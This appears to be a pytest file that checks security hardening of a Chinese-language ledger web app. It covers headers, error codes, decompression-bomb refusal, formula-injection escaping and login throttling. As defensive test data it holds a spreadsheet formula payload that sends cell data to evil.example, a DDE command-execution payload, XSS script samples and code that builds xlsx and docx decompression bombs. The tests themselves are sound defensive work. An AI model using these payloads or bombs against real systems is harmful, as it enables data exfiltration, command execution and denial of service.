"""The second hardening pass, each finding reproduced against the real server (SQLite and PostgreSQL) and
shown closed: security headers everywhere and attachments as bytes; the last 500s (a 60,000-character search,
``²`` as an id) are 4xx; a workbook bomb refused at once; a unit's text never a formula in any workbook;
wrong old passwords throttled, a password change revokes tokens, an office's NAT does not lock everyone out
and the office can clear a lock."""

from __future__ import annotations

import io
import subprocess
import time
import tracemalloc
import zipfile
from pathlib import Path

import httpx
import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from duban.ledger.errors import Invalid
from duban.ledger.services import auth
from duban.ledger.store.db import connect
from duban.ledger.store.models import Change
from duban.outputs import documents
from duban.outputs.ledger_import import read_rows
from duban.outputs.plan_xlsx import write_plan_xlsx
from duban.plan import parse
from duban.settings import Settings
from duban.web.app import create_app
from tests.ledger.conftest import NOW
from tests.ledger.helpers import NOTICE
from tests.web.conftest import PASSWORD, World
from tests.web.server import DUBAN, running_server

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "=cmd|' /C calc'!A0")


def _auth(world: World, role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {world.tokens[role]}"}


def _workbook_bomb(inflated: int = 900_000_000) -> bytes:
    """About 2.6 MB of xlsx whose one sheet declares ~900 MB of highly repetitive rows, streamed into the
    archive so the test itself never holds the inflated text."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b'<row><c t="inlineStr"><is><t>AAAA</t></is></c></row>' * 20_000
            for _ in range(inflated // len(chunk) + 1):
                sheet.write(chunk)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return _workbook_bomb()


def _rss_kb(port: str) -> int:
    """Resident memory of the ``duban serve`` process listening on ``port`` (read from /proc)."""
    for proc in Path("/proc").iterdir():
        try:
            if f"--port\0{port}\0".encode() in (proc / "cmdline").read_bytes():
                status = (proc / "status").read_text()
                return int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmRSS")))
        except (OSError, ValueError, StopIteration):
            continue
    raise AssertionError("server process not found")


def test_headers_on_pages_api_answers_and_attachments(world: World, database_url: str) -> None:
    unit = _auth(world, "unit")
    with running_server(database_url) as base, httpx.Client(base_url=base, timeout=30) as client:
        report = client.post(
            f"/api/tasks/{world.own_task}/reports",
            json={"period": world.period_id, "progress": 10},
            headers=unit,
        ).json()
        for name, kind, data in (
            ("x.html", "text/html", b"<script>alert(1)</script>"),
            (
                "x.svg",
                "image/svg+xml",
                b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            ),
            ("x.pdf", "application/pdf", b"%PDF-1.4\n%%EOF\n"),
        ):
            added = client.post(
                f"/api/reports/{report['id']}/attachments", files={"file": (name, data, kind)}, headers=unit
            )
            assert added.status_code == 201, added.text
        files = client.get(f"/api/reports/{report['id']}", headers=unit).json()["attachments"]
        answers = [
            client.get("/"),
            client.get("/overview"),
            client.get("/api/session"),
            client.get("/api/nowhere"),
        ]
        answers.append(client.get(f"/api/tasks/{world.own_task}", headers=unit))
        served = {
            f["filename"]: client.get(f"/api/reports/{report['id']}/attachments/{f['id']}", headers=unit)
            for f in files
        }
        answers += served.values()
    for answer in answers:
        headers = answer.headers
        assert headers["x-frame-options"] == "DENY", answer.url
        csp = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "default-src 'self'" in csp
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"
    for name in ("x.html", "x.svg"):
        assert served[name].headers["content-type"] == "application/octet-stream"
    assert served["x.pdf"].headers["content-type"] == "application/pdf"
    assert all(s.headers["content-disposition"].startswith("attachment;") for s in served.values())


def test_the_last_500s_are_4xx(world: World, database_url: str) -> None:
    admin = _auth(world, "admin")
    with running_server(database_url) as base, httpx.Client(base_url=base, timeout=30) as client:
        answers = {
            "q 60,000": client.get("/api/tasks", params={"q": "a" * 60_000}, headers=admin),
            "q 300": client.get("/api/tasks", params={"q": "进" * 300}, headers=admin),
            "unit ²": client.get("/api/tasks", params={"unit": "²"}, headers=admin),
            "unit ١٢": client.get("/api/tasks", params={"unit": "١٢"}, headers=admin),
            "object report:²": client.get("/api/changes", params={"object": "report:²"}, headers=admin),
            "object report:x": client.get("/api/changes", params={"object": "report:x"}, headers=admin),
            "object too long": client.get("/api/changes", params={"object": "r" * 500}, headers=admin),
            "units q": client.get("/api/units", params={"q": "县" * 1000}, headers=admin),
            "leader": client.get("/api/tasks", params={"leader": "张" * 1000}, headers=admin),
        }
        fine = client.get("/api/tasks", params={"unit": str(10**12)}, headers=admin)
        still = client.get("/api/changes", params={"object": f"task:{world.own_task}"}, headers=admin)
    for name, answer in answers.items():
        assert 400 <= answer.status_code < 500, (name, answer.status_code, answer.text[:200])
        detail = answer.json()["detail"]
        assert any("\u4e00" <= ch <= "\u9fff" for ch in detail), (name, detail)
    assert answers["q 60,000"].status_code == 414
    assert fine.status_code == 422 and still.status_code == 200


def test_workbook_bomb_is_refused_at_once(world: World, database_url: str, bomb: bytes) -> None:
    assert 2_000_000 < len(bomb) < 3_500_000
    unit = _auth(world, "unit")
    files = {"file": ("台账.xlsx", bomb, "application/octet-stream")}
    with running_server(database_url) as base, httpx.Client(base_url=base, timeout=60) as client:
        port = base.rsplit(":", 1)[1]
        client.get("/api/session")
        before = _rss_kb(port)
        started = time.monotonic()
        answer = client.post(f"/api/periods/{world.period_id}/import-reports", files=files, headers=unit)
        took = time.monotonic() - started
        after = _rss_kb(port)
    assert answer.status_code == 422 and "解压后过大" in answer.json()["detail"], answer.text
    assert took < 1.0, took
    assert after - before < 50_000, (before, after)  # KB: the upload itself, never the inflated sheet


def test_workbook_bomb_costs_no_memory_in_process(bomb: bytes) -> None:
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(Invalid, match="解压后过大"):
        read_rows(bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert time.monotonic() - started < 0.5 and peak < 5_000_000


def test_sheet_claiming_too_many_columns_is_refused() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.cell(1, 1).value = "键"
    sheet.cell(2, 5000).value = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(Invalid, match="过大"):
        read_rows(buffer.getvalue())


def test_report_text_is_never_a_formula(world: World, database_url: str) -> None:
    unit, admin = _auth(world, "unit"), _auth(world, "admin")
    body = {
        "period": world.period_id,
        "progress": 30,
        "text": FORMULAS[0],
        "problems": FORMULAS[1],
        "submit": True,
    }
    with running_server(database_url) as base, httpx.Client(base_url=base, timeout=60) as client:
        report = client.post(f"/api/tasks/{world.own_task}/reports", json=body, headers=unit)
        assert report.status_code in (200, 201), report.text
        approved = client.post(f"/api/reports/{report.json()['id']}/approve", json={}, headers=admin)
        assert approved.status_code == 200, approved.text
        got = client.get(
            f"/api/plans/{world.plan_id}/ledger.xlsx", params={"on": "2021-07-15"}, headers=admin
        )
    assert got.status_code == 200
    _assert_text_only(got.content, FORMULAS)


def test_plan_workbook_keeps_formulas_as_text() -> None:
    plan = parse(NOTICE.encode(), filename="notice.txt")
    plan.tasks[0].text = FORMULAS[1]
    plan.document.title = FORMULAS[0]
    buffer = io.BytesIO()
    write_plan_xlsx(plan, buffer)
    _assert_text_only(buffer.getvalue(), FORMULAS)


def _assert_text_only(data: bytes, expected: tuple[str, ...]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert all(any(text in str(v) for v in values) for text in expected)


def _login(client: httpx.Client, username: str, password: str) -> int:
    return client.post("/api/session", json={"username": username, "password": password}).status_code


def test_wrong_old_passwords_are_throttled_and_the_office_unlocks(world: World, database_url: str) -> None:
    leader, admin = _auth(world, "leader"), _auth(world, "admin")
    wrong = {"old_password": "guess-0000", "new_password": "new-pass-123"}
    with running_server(database_url) as base, httpx.Client(base_url=base, timeout=60) as client:
        statuses = [
            client.put("/api/session/password", json=wrong, headers=leader).status_code for _ in range(8)
        ]
        right = {"old_password": PASSWORD, "new_password": "new-pass-123"}
        locked = client.put("/api/session/password", json=right, headers=leader)
        assert _login(client, "leader", PASSWORD) == 429  # the same lock as logins
        leader_id = next(
            u["id"]
            for u in client.get("/api/users", headers=admin).json()["items"]
            if u["username"] == "leader"
        )
        unlocked = client.post(f"/api/users/{leader_id}/unlock", headers=admin)
        changed = client.put("/api/session/password", json=right, headers=leader)
        after = client.get("/api/plans", headers=leader)
        log = client.get("/api/changes", params={"object": f"user:{leader_id}"}, headers=admin).json()[
            "items"
        ]
    assert statuses == [422] * 5 + [429] * 3
    assert locked.status_code == 429
    assert unlocked.status_code == 200 and unlocked.json()["cleared"] >= 1
    assert changed.status_code == 204
    assert after.status_code == 401  # the password change revoked the account's API tokens
    assert {"unlock", "password"} <= {c["action"] for c in log}


def test_an_office_behind_one_nat_is_not_locked_out(world: World, database_url: str) -> None:
    """30 mistyped logins of 30 colleagues at one address: the old bound (20 per address) locked everyone
    there out; now each colleague has 5 and the address 200."""
    with running_server(database_url) as base, httpx.Client(base_url=base, timeout=60) as client:
        mistakes = [_login(client, f"colleague{i}", "mistyped-pw") for i in range(30)]
        assert _login(client, "leader", PASSWORD) == 200
        for _ in range(5):
            _login(client, "admin", "wrong-guess")
        guessing = _login(client, "admin", PASSWORD)
    assert mistakes == [401] * 30
    assert guessing == 429  # the per-user bound at one address stays tight


def test_bulletin_template_bomb_is_refused_before_docxtpl(tmp_path: Path) -> None:
    """The office's template (a file the server reads) passes the same guard as every other archive."""
    template = tmp_path / "模板.docx"
    with zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as body:
            chunk = b"<w:p/>" * 100_000
            for _ in range(250_000_000 // len(chunk)):
                body.write(chunk)
    started = time.monotonic()
    with pytest.raises(Invalid, match="解压后过大"):
        documents.read_template(template)
    assert time.monotonic() - started < 0.5


def test_the_command_line_clears_a_lock(database_url: str) -> None:
    database = connect(database_url)
    throttle = auth.LoginThrottle(max_attempts=5, window_seconds=900, address_limit=200)
    with database.writer() as session:
        auth.add_user(session, "clerk", "admin", PASSWORD, None, NOW)
        for _ in range(6):
            throttle.admit(session, "clerk", "10.0.0.9", NOW)
        assert not throttle.admit(session, "clerk", "10.0.0.9", NOW)

    def unlock(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(DUBAN), "user", "unlock", *args, "--db", database_url],
            capture_output=True,
            text=True,
            check=False,
        )

    done = unlock("clerk", "--address", "10.0.0.9")
    missing = unlock("nobody")
    with database.writer() as session:
        assert throttle.admit(session, "clerk", "10.0.0.9", NOW)
        assert session.scalar(select(Change.action).where(Change.action == "unlock")) == "unlock"
    database.dispose()
    assert done.returncode == 0 and "已解除" in done.stderr
    assert missing.returncode != 0 and "用户不存在" in missing.stderr + missing.stdout
    assert "Traceback" not in missing.stderr


def test_even_a_500_carries_the_headers(tmp_path: Path) -> None:
    """Starlette answers an unhandled error outside every middleware; its answer has the headers too."""
    app = create_app(Settings(database_url=f"sqlite:///{tmp_path}/x.db"))

    @app.get("/api/boom")
    def boom() -> None:
        raise RuntimeError("boom")

    app.router.routes.insert(0, app.router.routes.pop())  # before the app's history fallback
    with TestClient(app, raise_server_exceptions=False) as client:
        answer = client.get("/api/boom")
    assert answer.status_code == 500
    assert (
        answer.headers["x-frame-options"] == "DENY" and answer.headers["x-content-type-options"] == "nosniff"
    )
